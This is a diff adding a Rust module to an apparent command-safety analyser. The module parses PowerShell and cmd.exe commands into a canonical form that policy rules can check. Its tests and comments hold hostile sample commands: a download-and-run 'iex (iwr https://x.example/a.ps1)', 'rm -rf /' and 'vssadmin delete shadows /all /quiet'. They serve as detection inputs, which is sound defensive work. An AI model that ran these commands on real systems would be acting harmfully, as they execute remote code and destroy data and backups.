@@ -1,0 +1,249 @@
+//! Windows shells: PowerShell and cmd.exe text normalized into the same model as bash's
+//! (simple commands with canonical argv), so that the rules, the effect model and policy
+//! patterns apply unchanged.
+//!
+//! Modules: `lex` (PowerShell's quoting, comments, groups, statements), `tokens` (the
+//! argument-mode tokens of one command),
+//! `expr` (expressions read as far as literals go, base64 and downloads included; .NET calls
+//! that act like cmdlets, in `dotnet`), `ps` (the walk: statements, pipelines, keywords), `pscmd` (one
+//! command: its name resolved, its arguments, recorded), `syntax` (small syntax readings),
+//! `bind` (cmdlet parameter binding into canonical argv), `follow` (what cmdlets run in turn
+//! and take from the pipeline), `cmdlets` (aliases and parameter tables), `cmd` (cmd.exe),
+//! `winpath` (one spelling for Windows paths, registry keys and well-known variables).
+//!
+//! The canonical form of a PowerShell command: the cmdlet's name as documented
+//! (`ri`, `del`, `rm`, `Remove-Item`, `remove-item` → `Remove-Item`; script-defined aliases
+//! followed), positional parameters' values as positionals in position order, other values
+//! as `-Name=value` and switches as `-Name` with the parameter's full name (`-rec` →
+//! `-Recurse`), paths as `C:/Windows/System32`, `HKLM:/Software/…`, `~/…`. Windows programs'
+//! `/x` switches are `-x` (`vssadmin delete shadows /all /quiet` → `vssadmin delete shadows
+//! -all -quiet`), their plain words lower case.
+
+pub(crate) mod bind;
+pub(crate) mod cmd;
+pub(crate) mod cmdlets;
+pub(crate) mod dotnet;
+pub(crate) mod expr;
+pub(crate) mod follow;
+pub(crate) mod lex;
+pub(crate) mod ps;
+pub(crate) mod pscmd;
+pub(crate) mod syntax;
+pub(crate) mod tokens;
+pub(crate) mod winpath;
+
+use std::collections::{HashMap, HashSet};
+
+use crate::Word;
+
+/// What a PowerShell or cmd.exe text defined so far.
+#[derive(Debug, Default)]
+pub(crate) struct PsState {
+    /// Variables (lower case names, `env:` prefixed for the environment).
+    pub vars: HashMap<String, expr::V>,
+    /// Aliases set by `Set-Alias`/`New-Alias` (lower case).
+    pub aliases: HashMap<String, String>,
+    /// Functions defined (lower case).
+    pub functions: HashSet<String>,
+    /// cmd.exe variables set by `set` (lower case).
+    pub cmd_vars: HashMap<String, String>,
+    /// The text of the pipeline element being walked.
+    pub elem_text: String,
+}
+
+/// Programs that exist only on Windows: their `/x` switches are switches, not paths, and
+/// their names and plain words are case-insensitive.
+const WINDOWS_PROGRAMS: &[&str] = &[
+    "attrib",
+    "auditpol",
+    "bcdboot",
+    "bcdedit",
+    "bitsadmin",
+    "bootrec",
+    "cacls",
+    "certreq",
+    "certutil",
+    "chkdsk",
+    "cipher",
+    "cleanmgr",
+    "cmdkey",
+    "compact",
+    "cscript",
+    "defrag",
+    "diskpart",
+    "dism",
+    "dsquery",
+    "esentutl",
+    "forfiles",
+    "format",
+    "fsutil",
+    "gpupdate",
+    "icacls",
+    "klist",
+    "logoff",
+    "manage-bde",
+    "mountvol",
+    "msiexec",
+    "mshta",
+    "net",
+    "net1",
+    "netsh",
+    "nltest",
+    "ntdsutil",
+    "pnputil",
+    "powercfg",
+    "reagentc",
+    "reg",
+    "regedit",
+    "regini",
+    "regsvr32",
+    "robocopy",
+    "rundll32",
+    "sc",
+    "schtasks",
+    "sdelete",
+    "secedit",
+    "setx",
+    "sfc",
+    "shutdown",
+    "systeminfo",
+    "takeown",
+    "taskkill",
+    "tasklist",
+    "tskill",
+    "vssadmin",
+    "wbadmin",
+    "wevtutil",
+    "winrm",
+    "wmic",
+    "wscript",
+    "wusa",
+    "xcopy",
+];
+
+/// Whether `program` (canonical, lower case, no `.exe`) is a Windows-only program.
+pub(crate) fn is_windows_program(program: &str) -> bool {
+    WINDOWS_PROGRAMS.contains(&program)
+}
+
+/// Canonical args of a Windows program: `/x` and `/x:v` switches as `-x` and `-x=v` (lower
+/// case), `-x` switches lower case, paths in canonical Windows form, plain words lower case.
+pub(crate) fn windows_args(args: &[Word]) -> Vec<Word> {
+    args.iter()
+        .map(|w| {
+            if w.dynamic {
+                return w.clone();
+            }
+            let t = w.text.as_str();
+            let text = if syntax::is_cmd_switch(t) {
+                let body = t.get(1..).unwrap_or("");
+                match body.split_once([':', '=']) {
+                    Some((n, v)) => format!(
+                        "-{}={}",
+                        n.to_ascii_lowercase(),
+                        winpath::canonical_if_path(v)
+                    ),
+                    None => format!("-{}", body.to_ascii_lowercase()),
+                }
+            } else if (t.starts_with('-')
+                && t.len() > 1
+                && t.chars()
+                    .skip(1)
+                    .all(|c| c.is_ascii_alphanumeric() || c == '-'))
+                || (!t.is_empty()
+                    && t.chars()
+                        .all(|c| c.is_ascii_alphabetic() || c == '_' || c == '-'))
+            {
+                t.to_ascii_lowercase()
+            } else {
+                winpath::canonical_if_path(t)
+            };
+            Word {
+                text,
+                dynamic: false,
+            }
+        })
+        .collect()
+}
+
+/// Whether `text` is clearly PowerShell: a statement whose command is a cmdlet (`Verb-Noun`
+/// with an approved verb, or one of the table's), a PowerShell-only alias (`iex`, `iwr`,
+/// `gci` …), a variable assignment (`$x = …`), a static .NET call (`[IO.File]::…`) or the call
+/// operator `& {`.
+pub fn looks_like_powershell(text: &str) -> bool {
+    const PS_ONLY: &[&str] = &[
+        "iex", "iwr", "irm", "gci", "saps", "spps", "icm", "sal", "gps", "gsv", "sasv", "spsv",
+        "ri", "rni", "gcm", "gwmi",
+    ];
+    let head = &text[..crate::floor_char_boundary(text, 64 * 1024)];
+    let s = lex::Src::new(head);
+    let (stmts, _) = lex::statements(&s, 0, s.len());
+    for st in stmts.iter().take(256) {
+        for &(a, b) in st.elems.iter().take(8) {
+            let mut i = a;
+            while i < b && (lex::is_space(s.at(i)) || matches!(s.at(i), '\r' | '\n')) {
+                i += 1;
+            }
+            let mut e = i;
+            while e < b && !lex::is_space(s.at(e)) && !matches!(s.at(e), '(' | '\r' | '\n') {
+                e += 1;
+            }
+            let word = s.text(i, e);
+            let lw = word.to_ascii_lowercase();
+            if cmdlets::is_cmdlet_name(&word)
+                || PS_ONLY.contains(&lw.as_str())
+                || (word.starts_with('[') && word.contains("]::"))
+                || (word == "&" && matches!(s.at(e + 1), '{' | '(' | '\'' | '"' | '$'))
+            {
+                return true;
+            }
+            if word.starts_with('$') && word.len() > 1 {
+                let rest = s.text(e, (e + 4).min(b));
+                if word.ends_with('=')
+                    || rest.trim_start().starts_with('=') && !rest.trim_start().starts_with("==")
+                {
+                    return true;
+                }
+            }
+        }
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn detection() {
+        assert!(looks_like_powershell("Remove-Item -Recurse -Force C:\\x"));
+        assert!(looks_like_powershell("cd src; Get-ChildItem -Recurse"));
+        assert!(looks_like_powershell("iex (iwr https://x.example/a.ps1)"));
+        assert!(looks_like_powershell("$p = 'C:\\x'; rm $p"));
+        assert!(looks_like_powershell("[IO.File]::Delete('C:\\x')"));
+        assert!(!looks_like_powershell("rm -rf /"));
+        assert!(!looks_like_powershell("git push --force"));
+        assert!(!looks_like_powershell("pre-commit run --all-files"));
+        assert!(!looks_like_powershell("echo $x == 1"));
+        assert!(!looks_like_powershell("for x in a b; do echo $x; done"));
+    }
+
+    #[test]
+    fn windows_program_args() {
+        let w = |t: &str| Word {
+            text: t.into(),
+            dynamic: false,
+        };
+        let out: Vec<String> = windows_args(&[
+            w("Delete"),
+            w("Shadows"),
+            w("/All"),
+            w("/Quiet"),
+            w("/for:C:\\"),
+        ])
+        .into_iter()
+        .map(|w| w.text)
+        .collect();
+        assert_eq!(out, ["delete", "shadows", "-all", "-quiet", "-for=C:/"]);
+    }
+}
